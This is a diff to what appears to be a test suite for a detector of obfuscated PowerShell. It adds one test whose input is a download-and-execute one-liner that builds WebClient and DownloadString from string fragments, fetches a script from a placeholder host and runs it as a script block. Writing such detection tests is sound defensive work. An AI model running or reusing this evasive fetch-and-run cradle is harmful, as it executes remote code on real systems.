@@ -497,6 +497,11 @@ describe("more sinks", () => {
     expect(c.embedded.map((e) => e.kind)).toContain("shell");
   });
 
+  it("a method taken as a value by a built name and then .Invoke()d is that method called", () => {
+    const c = run("$wc = New-Object ('Net.' + 'Web' + 'Client')\n$body = $wc.('Download' + 'String').Invoke('https://m.invalid/s.ps1')\n$sb = [ScriptBlock]::Create($body)\n. $sb");
+    expect(of(c, "exec").map((e) => e.fetched)).toContain("https://m.invalid/s.ps1");
+  });
+
   it("a function call decodes its own arguments, and a foreach variable is the loop's item whatever else shares its name", () => {
     const c = run([
       "function From-Codes([int[]]$c) { -join ($c | ForEach-Object { [char]$_ }) }",
